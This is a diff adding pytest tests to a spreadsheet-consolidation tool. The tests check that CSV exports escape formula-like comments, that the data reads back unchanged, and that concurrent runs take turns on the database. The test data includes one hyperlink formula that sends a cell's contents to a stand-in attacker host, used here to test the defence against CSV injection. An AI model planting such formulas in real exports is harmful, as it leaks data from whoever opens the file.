@@ -2,19 +2,24 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import hashlib
+import os
+import subprocess
+import sys
 
+import openpyxl
 import pandas as pd
 import pytest
 import sqlalchemy as sa
 
 from intraxl.history import export_history, import_history
 from intraxl.store import Received, Store, schema
-from intraxl.store.migrations import migrate
+from intraxl.store.migrations import MIGRATIONS, migrate
 from intraxl.validate import validate_file
 
-from .conftest import EXAMPLES, ROOT
+from .conftest import EXAMPLES, ROOT, libreoffice_convert
 from .test_validate import FEB, set_cell, write_hr
 
 HISTORY = ROOT / "workbooks" / "history" / "2022.csv"
@@ -203,3 +208,103 @@ def test_unreachable_database_is_a_clear_error(url):
 
     with pytest.raises(IntraxlError, match="cannot open the history database"):
         Store(url)
+
+
+# Comments a department might write, each a formula to a spreadsheet opening a plain CSV.
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "+46 31 365 00 00",
+                 "-5 % mot plan", "@ekonomi se mejl", "'=redan skyddad", "'citat'"]
+PLAIN_TEXTS = ["007", "1 234,5"]  # text that looks like a number stays text
+
+
+def test_csv_export_shows_formula_like_text_as_text_and_reads_back_exactly(
+        db_url, mappings, tmp_path):
+    texts = FORMULA_TEXTS + PLAIN_TEXTS
+    sections = mappings.plan.comment_sections
+
+    def edit(v):
+        for section, text in zip(sections, texts, strict=True):
+            set_cell("Kommentarer", section, "Text", text)(v)
+
+    report = validate_file(write_hr(mappings, tmp_path / "hr.xlsx", edit), mappings, FEB)
+    assert report.valid
+    store = Store(db_url)
+    store.record([Received(report)])
+    out = tmp_path / "export.csv"
+    export_history(store, mappings, out)
+    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    cells = {(r["ID"], r["Fält"]): r["Värde"] for r in rows}
+    for section, text in zip(sections, texts, strict=True):
+        assert cells[(section, "Text")] == ("'" + text if text in FORMULA_TEXTS else text)
+    assert cells[("resultat.forvaltning", "Prognos helår")] == "-500"  # a number, unchanged
+
+    # LibreOffice opens the export with every such comment as text, the number as a number.
+    lo = tmp_path / "lo"
+    lo.mkdir()
+    sheet = openpyxl.load_workbook(libreoffice_convert(out, "xlsx", lo)).active
+    shown = {(r["ID"], r["Fält"]): cell for r, (*_, cell) in zip(
+        rows, sheet.iter_rows(min_row=2, max_col=7), strict=True)}
+    for section, text in zip(sections, FORMULA_TEXTS, strict=False):
+        assert shown[(section, "Text")].data_type == "s", section
+        assert shown[(section, "Text")].value == "'" + text
+    assert shown[("resultat.forvaltning", "Prognos helår")].value == -500
+
+    # intraxl's own export reads back exactly: every value, of every type.
+    again = Store(f"sqlite:///{tmp_path / 'again.db'}")
+    issues, summary = import_history(out, mappings, again)
+    assert not [i for i in issues if i.severity == "error"] and summary["nya"] == 1
+
+    def facts(s: Store) -> list[tuple]:
+        return sorted(map(tuple, s.facts(["2023-02"]).astype(str).values.tolist()))
+
+    assert facts(again) == facts(store)
+    assert {t for (_, _, table, _, field, t) in facts(again) if field == "Text"} >= set(texts)
+
+
+def _intraxl(tmp_path, *args: str, timeout: str = "300") -> subprocess.Popen:
+    return subprocess.Popen(
+        [sys.executable, "-m", "intraxl.cli", *args, "--mappings", str(ROOT / "mappings")],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path,
+        env={**os.environ, "INTRAXL_LOCK_TIMEOUT": timeout})
+
+
+def test_two_runs_at_once_take_turns(db_url, mappings, tmp_path):
+    """Two consolidates and two collects on one fresh database at once, in four processes:
+    each waits for the other, every one succeeds, nothing is stored twice."""
+    from .test_collect import the_month
+
+    mails = the_month(mappings, tmp_path / "mails")
+    master = tmp_path / "master.xlsx"
+    runs = [_intraxl(tmp_path, "consolidate", str(EXAMPLES), "--period", "2023-02",
+                     "--db", db_url, "--out", str(master)) for _ in range(2)]
+    runs += [_intraxl(tmp_path, "collect", str(mails), "--period", "2023-02", "--db", db_url,
+                      "--inbox", str(tmp_path / "inbox"), "--quarantine",
+                      str(tmp_path / "quarantine")) for _ in range(2)]
+    outputs = [run.communicate(timeout=600) for run in runs]
+    assert [run.returncode for run in runs] == [0, 0, 0, 0], outputs
+    assert not any("Traceback" in out + err for out, err in outputs)
+    store = Store(db_url)
+    reports = [validate_file(f, mappings, FEB) for f in sorted(EXAMPLES.glob("*.xlsx"))]
+    # The inbox's files are the examples' own bytes: the same seven submissions.
+    assert counts(store) == {"submissions": 7, "schema_migrations": len(MIGRATIONS),
+                             "facts": sum(len(r.submission.facts) for r in reports)}
+    assert len(store.attachments("2023-02")) == 7
+    assert sorted(p.name for p in (tmp_path / "inbox").iterdir()) == sorted(
+        p.name for p in EXAMPLES.glob("*.xlsx"))
+    assert openpyxl.load_workbook(master)["Data"].max_row > 1
+
+
+def test_a_run_waits_a_bounded_time_for_another(db_url, tmp_path):
+    store = Store(db_url)
+    master = tmp_path / "master.xlsx"
+    args = ("consolidate", str(EXAMPLES), "--period", "2023-02", "--db", db_url, "--out",
+            str(master))
+    with store.run_lock():  # another run holds the database
+        out, err = _intraxl(tmp_path, *args, timeout="2").communicate(timeout=120)
+        assert err.strip().splitlines() == [
+            f"error: the history database {store.safe_url} is in use by another intraxl run; "
+            "waited 2 s (try again when it is done)"], out + err
+    assert counts(store)["submissions"] == 0 and not master.exists()
+    run = _intraxl(tmp_path, *args, timeout="2")
+    out, err = run.communicate(timeout=300)
+    assert run.returncode == 0, out + err
+    assert counts(store)["submissions"] == 7 and master.exists()
